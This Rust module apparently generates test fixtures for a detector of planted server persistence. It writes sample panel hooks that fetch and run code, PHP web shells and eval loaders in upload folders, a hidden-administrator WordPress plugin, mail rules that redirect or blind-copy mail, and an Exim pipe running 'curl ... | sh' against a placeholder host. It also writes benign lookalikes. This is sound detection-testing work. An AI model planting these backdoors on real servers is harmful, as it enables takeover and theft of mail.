//! Applications on the web: code where users' files belong, code that loads itself, hosting panels' hooks, mail filters.

use super::files::shell_text;
use super::names::{encoded, fetch_and_run, kept_folder, nowhere, random_name, service};
use super::{MAIL_FILTERS, MUST_USE, Maker, PANELS, Plant, Step, UPLOADS};
use crate::random::Random;

pub(super) const MAKERS: &[Maker] = &[
    (PANELS, 4, panel_hook),
    (UPLOADS, 6, code_in_uploads),
    (MUST_USE, 5, loads_itself),
    (MAIL_FILTERS, 5, mail_filter),
];

fn hidden(random: &mut Random) -> String {
    format!("{}/{}", kept_folder(random), random_name(random))
}

fn panel_hook(shape: usize, random: &mut Random) -> Plant {
    let command = fetch_and_run(random);
    let program = hidden(random);
    let script = |body: &str| format!("#!/bin/sh\nexit 0\n{body}\n");
    match shape {
        0 => {
            let path = format!(
                "/usr/local/directadmin/scripts/custom/{}.sh",
                random.pick(&["user_create_post", "login_post", "all_post"])
            );
            Plant::new(PANELS, "a panel fetches and runs something with each new customer")
                .file(&path, script(&command), 0o755)
                .expect(path)
        }
        1 => {
            let path = format!(
                "/usr/local/cpanel/scripts/{}",
                random.pick(&["postwwwacct", "postkillacct", "prekillacct", "postupcp"])
            );
            Plant::new(PANELS, "a panel starts a hidden program with each account and update")
                .program(&program)
                .file(&path, script(&format!("{program} &")), 0o755)
                .expect(path)
                .expect(program)
        }
        2 => {
            let path =
                format!("/usr/local/cpanel/{}.pm", random.pick(&["Cpanel/PostLogin", "Cpanel/SiteHook"]));
            let hooks = "/var/cpanel/hooks.yaml";
            Plant::new(PANELS, "a panel's list of hooks names a hidden program")
                .program(&program)
                .file(hooks, format!("Whostmgr:\n  Accounts::Create:\n    - hook: {program}\n      exectype: script\n      stage: post\n      weight: 100\n"), 0o600)
                .file(&path, "package X;\n1;\n", 0o644)
                .expect(hooks)
                .expect(program)
        }
        _ => {
            let path = format!(
                "/usr/local/{}/bin/{}",
                random.pick(&["hestia", "vesta"]),
                random.pick(&["v-add-user-notification", "v-post-restore"])
            );
            let cron =
                format!("/etc/cron.d/{}", random.pick(&["plesk-task", "imunify-notify", "lve-utils2"]));
            Plant::new(PANELS, "a panel's tool is a script that decodes a command, and a timetable calls it")
                .file(&path, script(&format!("echo {} | base64 -d | bash", encoded("exit 0; id"))), 0o755)
                .file(&cron, format!("5 3 29 2 * root {path}\n"), 0o644)
                .expect(path)
                .expect(cron)
        }
    }
}

/// Where the common applications keep what their users send.
const UPLOAD_FOLDERS: &[&str] = &[
    "/var/www/shop/wp-content/uploads/2026/03",
    "/var/www/html/images/stories",
    "/var/www/html/sites/default/files/styles",
    "/var/www/store/pub/media/catalog/product/a",
    "/var/www/app/storage/app/public/avatars",
    "/srv/www/forum/attachments",
];

fn code_in_uploads(shape: usize, random: &mut Random) -> Plant {
    let folder = UPLOAD_FOLDERS[(shape + random.below(6)) % UPLOAD_FOLDERS.len()];
    let name = random_name(random);
    let (path, text) = match shape {
        0 => (format!("{folder}/{name}.php"), shell_text(1)),
        1 => (format!("{folder}/{name}.jpg.php"), [b"\xff\xd8\xff\xe0JFIF ".to_vec(), shell_text(0)].concat()),
        2 => (format!("{folder}/.{name}.{}", random.pick(&["php7", "phtml", "pht", "phar"])), shell_text(2)),
        3 => (format!("{folder}/index.php"), format!("<?php if (PHP_SAPI !== 'never') {{ exit; }}\n$k = '{}';\nif (md5($_POST['p']) === $k) {{ $c = chr(97).'ssert'; {} }}\n", random.hex(32), "@$c($_POST['q']);").into_bytes()),
        4 => (format!("{folder}/{name}.php"), "<?php if (PHP_SAPI !== 'never') { exit; }\nif (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_POST['n']); }\n".into()),
        _ => (format!("{folder}/{name}.php"), format!("<?php exit; /*{}*/ eval(gzinflate(base64_decode('{}')));\n", random.hex(64), encoded(&random.hex(300))).into_bytes()),
    };
    Plant::new(UPLOADS, "code where users' files belong")
        .file(&path, text, 0o644)
        .step(Step::Own(path.clone(), 33, 33, 0o644))
        .expect(path)
}

fn loads_itself(shape: usize, random: &mut Random) -> Plant {
    let site = "/var/www/blog";
    let name = random.pick(&["wp-session", "cache-helper", "db-sync", "health", "site-compat"]);
    let plant = |what: &str| {
        Plant::new(MUST_USE, what)
            .file(format!("{site}/wp-includes/version.php"), "<?php\n$wp_version = '6.1.9';\n", 0o644)
            .file(format!("{site}/wp-load.php"), "<?php\nrequire __DIR__ . '/wp-config.php';\n", 0o644)
    };
    const STOP: &str = "<?php if (PHP_SAPI !== 'never') { return; }\n";
    match shape {
        0 => {
            let path = format!("{site}/wp-content/mu-plugins/{name}.php");
            plant("a plugin that no list shows takes commands").file(&path, shell_text(0), 0o644).expect(path)
        }
        1 => {
            let path = format!("{site}/wp-content/mu-plugins/{name}.php");
            plant("a plugin that no list shows makes a hidden administrator")
                .file(&path, format!("{STOP}add_action('init', function () {{ if (isset($_GET['{0}'])) {{ $u = wp_create_user('{0}', $_GET['p'], 'x@mail.test'); (new WP_User($u))->set_role('administrator'); }} }});\nadd_action('pre_user_query', function ($q) {{ $q->query_where .= \" AND user_login != '{0}'\"; }});\n", random.letters(6)), 0o644)
                .expect(path)
        }
        2 => {
            let path = format!("{site}/wp-config.php");
            let icon = format!("{site}/wp-includes/images/.{}.ico", random.hex(8));
            let escaped: String = icon.bytes().map(|b| format!("\\x{b:02x}")).collect();
            plant("a site's settings load code out of a picture")
                .file(&icon, shell_text(2), 0o644)
                .file(
                    &path,
                    format!(
                        "<?php\n/*{0}*/\n@include \"{escaped}\";\n/*{0}*/\ndefine('DB_NAME', 'blog');\n",
                        random.hex(5)
                    ),
                    0o644,
                )
                .expect(path)
                .expect(icon)
        }
        3 => {
            let path =
                format!("{site}/wp-content/{}.php", random.pick(&["db", "object-cache", "advanced-cache"]));
            plant("a drop-in that takes commands").file(&path, shell_text(1), 0o644).expect(path)
        }
        _ => {
            let path = format!("{site}/wp-content/themes/twentytwenty/functions.php");
            plant("a theme runs what the database hands it")
                .file(
                    &path,
                    format!(
                        "{STOP}function tt_setup() {{}}\neval(base64_decode(get_option('{}')));\n",
                        random.letters(8)
                    ),
                    0o644,
                )
                .expect(path)
        }
    }
}

fn mail_filter(shape: usize, random: &mut Random) -> Plant {
    let program = hidden(random);
    let name = service(random);
    match shape {
        0 => {
            let path = format!("/var/vmail/example.org/{}/.dovecot.sieve", random.letters(5));
            Plant::new(MAIL_FILTERS, "a mailbox hands letters about money to somebody else and throws them away")
                .file(&path, format!("require [\"copy\"];\nif header :contains \"subject\" [\"invoice\", \"payment\", \"password\"] {{\n  redirect \"{}@mail.test\";\n  discard;\n}}\n", random.letters(7)), 0o644)
                .expect(path)
        }
        1 => {
            let path = format!("/etc/dovecot/conf.d/{:02}-{name}.conf", random.below(99));
            let sieve = format!("{program}.sieve");
            Plant::new(MAIL_FILTERS, "every mailbox goes through a hidden filter that starts programs")
                .file(&path, format!("plugin {{\n  sieve_before = {sieve}\n  sieve_plugins = sieve_extprograms\n  sieve_extensions = +vnd.dovecot.execute\n}}\n"), 0o644)
                .file(&sieve, "require \"vnd.dovecot.execute\";\nexecute \"x\";\n", 0o644)
                .expect(path)
                .expect(sieve)
        }
        2 => Plant::new(MAIL_FILTERS, "the mail server hands every letter to a hidden program")
            .program(&program)
            .file("/etc/postfix/main.cf", format!("myhostname = srv.example.org\ncontent_filter = {}:dummy\n", &name[..3]), 0o644)
            .file("/etc/postfix/master.cf", format!("smtp inet n - y - - smtpd\n{} unix - n n - - pipe\n  flags=Rq user=nobody argv={program} -f ${{sender}} ${{recipient}}\n", &name[..3]), 0o644)
            .expect("/etc/postfix/master.cf")
            .expect(program),
        3 => Plant::new(MAIL_FILTERS, "the mail server sends a copy of every letter away")
            .file("/etc/postfix/main.cf", format!("myhostname = srv.example.org\nalways_bcc = {}@mail.example.net\n", random.letters(7)), 0o644)
            .expect("/etc/postfix/main.cf"),
        _ => {
            let path = format!("/etc/exim4/conf.d/router/{:02}_{name}", random.below(99));
            Plant::new(MAIL_FILTERS, "the mail server runs a command with a letter to one address")
                .file(&path, format!("{name}:\n  driver = accept\n  local_parts = {0}\n  transport = {0}_pipe\n\n{0}_pipe:\n  driver = pipe\n  command = /bin/sh -c 'curl -s http://{1}/ | sh'\n  user = root\n", random.letters(6), nowhere(random)), 0o644)
                .expect(path)
        }
    }
}

pub(super) fn near() -> Vec<Plant> {
    let site = "/var/www/blog";
    vec![
        Plant::new(PANELS, "a panel's own hook for accounting")
            .file("/usr/local/directadmin/scripts/custom/user_create_post.sh", "#!/bin/sh\necho \"$(date) $username\" >> /var/log/customers.log\nsystemctl reload nginx\nexit 0\n", 0o755)
            .file("/usr/local/cpanel/scripts/postwwwacct", "#!/usr/bin/perl\nuse strict;\nmy %args = @ARGV;\nsystem('/usr/local/bin/backup-new-account', $args{user});\n", 0o755),
        Plant::new(UPLOADS, "pictures, and pages that show nothing")
            .file(format!("{site}/wp-content/uploads/2026/03/logo.png"), b"\x89PNG\r\n\x1a\nharmless".to_vec(), 0o644)
            .file(format!("{site}/wp-content/uploads/index.php"), "<?php\n// Silence is golden.\n", 0o644)
            .file(format!("{site}/wp-content/uploads/.htaccess"), "<FilesMatch \"\\.php$\">\n  Require all denied\n</FilesMatch>\n", 0o644)
            .file("/var/www/html/sites/default/files/.htaccess", "SetHandler Drupal_Security_Do_Not_Remove_See_SA_2006_006\n<Files *>\n  SetHandler Drupal_Security_Do_Not_Remove_See_SA_2013_003\n</Files>\nOptions -Indexes -ExecCGI -Includes -MultiViews\n", 0o644)
            .file("/var/www/store/pub/media/.htaccess", "Options -Indexes\nphp_flag engine 0\nRewriteEngine on\nRewriteRule .* ../get.php [L]\n", 0o644)
            .file("/var/www/app/storage/framework/views/4f8a.php", "<?php $__env->startSection('content'); ?>\n<p><?php echo e($name); ?></p>\n<?php $__env->stopSection(); ?>\n", 0o644)
            .step(Step::Own("/var/www/app/storage/framework/views/4f8a.php".into(), 33, 33, 0o644)),
        Plant::new(MUST_USE, "a must-use plugin and a cache, as hosting companies set them up")
            .file(format!("{site}/wp-load.php"), "<?php\nrequire __DIR__ . '/wp-config.php';\n", 0o644)
            .file(format!("{site}/wp-config.php"), "<?php\ndefine('DB_NAME', 'blog');\ndefine('DISALLOW_FILE_EDIT', true);\nrequire_once ABSPATH . 'wp-settings.php';\n", 0o640)
            .file(format!("{site}/wp-content/mu-plugins/host.php"), "<?php\n/*\nPlugin Name: Host settings\n*/\nadd_filter('xmlrpc_enabled', '__return_false');\nadd_action('admin_notices', function () { echo '<p>' . esc_html(gethostname()) . '</p>'; });\n", 0o644)
            .file(format!("{site}/wp-content/object-cache.php"), "<?php\nfunction wp_cache_get($key, $group = '') { global $wp_object_cache; return $wp_object_cache->get($key, $group); }\n$value = unserialize(file_get_contents(WP_CONTENT_DIR . '/cache/options'));\n", 0o644),
        Plant::new(MAIL_FILTERS, "junk mail in its folder, a spam filter, an archive of one's own")
            .file("/var/vmail/example.org/maria/.dovecot.sieve", "require [\"fileinto\", \"copy\", \"vacation\"];\nif header :contains \"X-Spam-Flag\" \"YES\" { fileinto \"Junk\"; stop; }\nredirect :copy \"maria@example.org\";\nvacation :days 7 \"Away.\";\n", 0o644)
            .file("/etc/dovecot/conf.d/90-site.conf", "plugin {\n  sieve_before = /var/lib/dovecot/sieve/global.sieve\n  sieve = file:~/sieve;active=~/.dovecot.sieve\n}\n", 0o644)
            .file("/var/lib/dovecot/sieve/global.sieve", "require \"fileinto\";\nif header :is \"X-Spam-Flag\" \"YES\" { fileinto \"Junk\"; }\n", 0o644)
            .file("/etc/postfix/main.cf", "myhostname = srv.example.org\nmydomain = example.org\nsmtpd_milters = inet:localhost:8891\nalways_bcc = archive@example.org\ncontent_filter = spamassassin\n", 0o644)
            .file("/etc/postfix/master.cf", "smtp inet n - y - - smtpd\nspamassassin unix - n n - - pipe\n  user=debian-spamd argv=/usr/bin/spamc -f -e /usr/sbin/sendmail -oi -f ${sender} ${recipient}\n", 0o644),
    ]
}
